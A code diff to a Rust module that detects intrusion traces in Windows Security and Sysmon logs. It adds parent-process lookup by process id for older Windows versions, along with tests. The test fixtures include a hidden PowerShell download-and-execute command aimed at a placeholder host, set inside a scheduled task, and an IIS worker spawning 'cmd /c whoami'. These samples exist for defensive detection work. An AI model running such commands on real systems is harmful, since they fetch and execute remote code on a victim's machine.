@@ -2,8 +2,9 @@
 //! started, LSASS dumps, accounts and scheduled tasks.
 //!
 //! Process creation (`suspicious_process`), Security 4688 (`NewProcessName`, `CommandLine`,
-//! `ParentProcessName`: the parent is logged from Windows 10 / Server 2016 on, the command line
-//! only when its audit policy is on) and Sysmon 1 (`Image`, `CommandLine`, `ParentImage`,
+//! `ParentProcessName`: the parent is logged from Windows 10 / Server 2016 on — before, it is
+//! the image an earlier 4688 of the same log gave the creator's process id, see
+//! [`MAX_PROCESSES`]; the command line only when its audit policy is on) and Sysmon 1 (`Image`, `CommandLine`, `ParentImage`,
 //! `ParentCommandLine`, `User`):
 //!
 //! - the IIS worker (`w3wp.exe`) starting a shell or a tool an intruder uses (`cmd.exe`,
@@ -92,6 +93,33 @@ const PRIVILEGED_NAMES: &[&str] = &[
     "organization management",
 ];
 
+/// At most this many process ids are remembered per Security log (then the table starts over:
+/// the most recent creations matter most).
+pub(crate) const MAX_PROCESSES: usize = 65_536;
+
+/// Process images by process id, from the 4688 events read so far in one Security log: the
+/// parent of a 4688 that does not name it (Windows before 10 / Server 2016).
+#[derive(Default)]
+pub(crate) struct ProcessTable {
+    images: std::collections::HashMap<String, String>,
+}
+
+impl ProcessTable {
+    /// Notes that process `pid` (as logged, `0x1f34`) runs `image`.
+    fn insert(&mut self, pid: &str, image: &str) {
+        if self.images.len() >= MAX_PROCESSES {
+            self.images.clear();
+        }
+        self.images
+            .insert(pid.trim().to_ascii_lowercase(), image.to_string());
+    }
+
+    /// The image of process `pid`, if a 4688 gave it.
+    fn get(&self, pid: &str) -> Option<String> {
+        self.images.get(&pid.trim().to_ascii_lowercase()).cloned()
+    }
+}
+
 /// Why a command line dumps LSASS, if it does.
 pub(crate) fn lsass_dump(cmd: &str) -> Option<&'static str> {
     let l = cmd.to_ascii_lowercase();
@@ -155,7 +183,7 @@ pub(crate) fn decoded_command(cmd: &str) -> Option<String> {
 }
 
 /// A process creation: Security 4688 or Sysmon 1.
-fn process_creation(d: &EventData<'_>, sysmon: bool) -> Vec<Hit> {
+fn process_creation(d: &EventData<'_>, sysmon: bool, table: &mut ProcessTable) -> Vec<Hit> {
     let (image, parent, user) = if sysmon {
         (d.value("Image"), d.value("ParentImage"), d.value("User"))
     } else {
@@ -171,6 +199,21 @@ fn process_creation(d: &EventData<'_>, sysmon: bool) -> Vec<Hit> {
     };
     let Some(image) = image else {
         return Vec::new();
+    };
+    // Before Windows 10 / Server 2016, 4688 has no ParentProcessName, only the creator's
+    // process id (`ProcessId`): the parent is the image an earlier 4688 gave that id.
+    let mut resolved = false;
+    let parent = if sysmon {
+        parent
+    } else {
+        if let Some(pid) = d.value("NewProcessId") {
+            table.insert(&pid, &image);
+        }
+        parent.or_else(|| {
+            let p = table.get(&d.value("ProcessId")?)?;
+            resolved = true;
+            Some(p)
+        })
     };
     let cmd = d.value("CommandLine");
     let child = base_name(&image);
@@ -198,6 +241,12 @@ fn process_creation(d: &EventData<'_>, sysmon: bool) -> Vec<Hit> {
     let Some(severity) = severity else {
         return Vec::new();
     };
+    if resolved {
+        reasons.push(
+            "parent found by its process id in an earlier 4688 of this log (ids are reused: check its time)"
+                .to_string(),
+        );
+    }
     let decoded = if matches!(child.as_str(), "powershell.exe" | "pwsh.exe") {
         cmd.as_deref().and_then(decoded_command)
     } else {
@@ -425,7 +474,7 @@ fn scheduled_task(d: &EventData<'_>) -> Vec<Hit> {
 }
 
 /// The traces in one Security or Sysmon record.
-pub(crate) fn check(record: &Value) -> Vec<Hit> {
+pub(crate) fn check(record: &Value, table: &mut ProcessTable) -> Vec<Hit> {
     let sys = System::of(record);
     let Some(event_id) = sys.event_id() else {
         return Vec::new();
@@ -434,7 +483,7 @@ pub(crate) fn check(record: &Value) -> Vec<Hit> {
     let d = EventData::of(record);
     if provider == "microsoft-windows-sysmon" {
         return if event_id == 1 {
-            process_creation(&d, true)
+            process_creation(&d, true, table)
         } else {
             Vec::new()
         };
@@ -443,7 +492,7 @@ pub(crate) fn check(record: &Value) -> Vec<Hit> {
         return Vec::new();
     }
     match event_id {
-        4688 => process_creation(&d, false),
+        4688 => process_creation(&d, false, table),
         4720 | 4728 | 4732 | 4756 => account(event_id, &d),
         4698 => scheduled_task(&d),
         _ => Vec::new(),
@@ -462,7 +511,9 @@ mod tests {
     }
 
     fn sev(v: &Value) -> Option<(FindingKind, Severity)> {
-        check(v).first().map(|h| (h.kind, h.severity))
+        check(v, &mut ProcessTable::default())
+            .first()
+            .map(|h| (h.kind, h.severity))
     }
 
     #[test]
@@ -512,6 +563,35 @@ mod tests {
     }
 
     #[test]
+    fn parent_by_process_id_before_server_2016() {
+        let mut t = ProcessTable::default();
+        let w3wp = security(
+            4688,
+            json!({"NewProcessName": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
+            "NewProcessId": "0x2A1C", "ProcessId": "0x3b0"}),
+        );
+        assert!(check(&w3wp, &mut t).is_empty());
+        let cmd = security(
+            4688,
+            json!({"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
+            "NewProcessId": "0x1f34", "ProcessId": "0x2a1c", "CommandLine": "cmd /c whoami"}),
+        );
+        let h = check(&cmd, &mut t);
+        assert_eq!(h.len(), 1);
+        assert_eq!(h[0].severity, Severity::High);
+        assert!(h[0]
+            .quote
+            .starts_with("C:\\Windows\\System32\\inetsrv\\w3wp.exe -> "));
+        // An unknown creator: nothing to say.
+        let orphan = security(
+            4688,
+            json!({"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
+            "NewProcessId": "0x1f38", "ProcessId": "0x9999"}),
+        );
+        assert!(check(&orphan, &mut t).is_empty());
+    }
+
+    #[test]
     fn accounts_and_tasks() {
         let created = security(
             4720,
@@ -542,7 +622,7 @@ mod tests {
             json!({"TaskName": "\\Microsoft\\Windows\\UpdateCheck",
             "TaskContent": "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions Context=\"Author\"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -c &quot;iex (iwr http://x/a)&quot;</Arguments></Exec></Actions></Task>"}),
         );
-        let h = check(&task);
+        let h = check(&task, &mut ProcessTable::default());
         assert_eq!(h[0].severity, Severity::High);
         assert!(h[0].quote.contains("-c \"iex (iwr http://x/a)\""));
         let benign = security(
